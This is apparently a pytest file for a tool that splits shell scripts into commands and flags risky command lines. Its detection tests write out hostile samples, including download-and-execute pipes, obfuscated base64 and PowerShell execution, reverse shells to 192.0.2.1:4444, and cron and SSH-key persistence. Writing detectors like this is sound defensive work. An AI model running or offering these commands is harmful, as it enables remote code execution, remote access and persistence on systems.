"""Command lines: words of each command, and the signs that they can show."""

import pytest

from jingwei.layers.tools.packages.shell import commands
from jingwei.layers.tools.packages.sources.commands import signs


def test_commands():
    script = "A=1 sudo apt-get update && pip install 'a b' ; (cd x; make) | tee y"
    assert list(commands(script)) == [
        ("apt-get", "update"), ("pip", "install", "a b"), ("cd", "x"), ("make",), ("tee", "y"),
    ]  # fmt: skip
    with pytest.raises(ValueError, match="quotation"):
        list(commands("echo 'open"))


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("curl -fsSL https://x.example/i.sh | sudo -E bash -s", "code.download-exec"),
        ('bash -c "$(curl -s https://x.example)"', "code.download-exec"),
        ("wget -q https://x.example/a.bin && chmod +x a.bin && ./a.bin", "code.download-exec"),
        ("curl -o /tmp/a https://x.example; sh /tmp/a", "code.download-exec"),
        ("powershell iex (irm https://x.example)", "code.download-exec"),
        ("echo aGk= | base64 -d | sh", "code.obfuscated-exec"),
        (f"powershell -w hidden -enc {'A' * 60}", "code.obfuscated-exec"),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "code.shell"),
        ("nc -e /bin/sh 192.0.2.1 4444", "code.shell"),
        ("(crontab -l; echo x) | crontab -", "code.persistence"),
        ("echo key >> ~/.ssh/authorized_keys", "code.persistence"),
    ],
)
def test_signs(line, rule):
    assert rule in signs(line)


@pytest.mark.parametrize(
    "line",
    [
        "curl -O https://x.example/data.tar.gz && tar xf data.tar.gz", "git clone https://x.example/a.git", "echo base64 -d", "wget https://x.example/a",
        "cat ~/.bashrc", "curl https://x.example | tee out", "nc -z localhost 80", "python3 setup.py build", "sh build.sh && curl -o a https://x.example",
    ],
)  # fmt: skip
def test_no_signs(line):
    assert signs(line) == ()
